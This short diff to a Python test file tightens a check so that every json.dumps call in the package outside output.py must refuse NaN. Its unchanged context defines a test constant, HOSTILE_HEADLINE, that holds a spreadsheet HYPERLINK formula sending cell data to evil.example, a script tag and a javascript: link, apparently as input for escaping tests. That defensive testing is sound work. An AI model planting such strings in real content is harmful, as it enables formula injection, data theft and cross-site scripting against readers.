@@ -528,7 +528,9 @@ def test_every_json_dumps_in_the_package_refuses_nan():
         if path.name == "crossencoder.py":  # owned by the stance work; writes labels and ints only
             continue
         text = path.read_text()
-        assert "json.dumps(" not in text or path.name == "output.py", path.name
+        calls = text.split("json.dumps(")[1:]
+        # output.py's dumps_json is the one writer; anything else must refuse NaN itself (Ray's transport of dumps)
+        assert path.name == "output.py" or all("allow_nan=False" in c.split("\n")[0] for c in calls), path.name
 
 
 HOSTILE_HEADLINE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert(1)</script> [x](javascript:alert(1))'
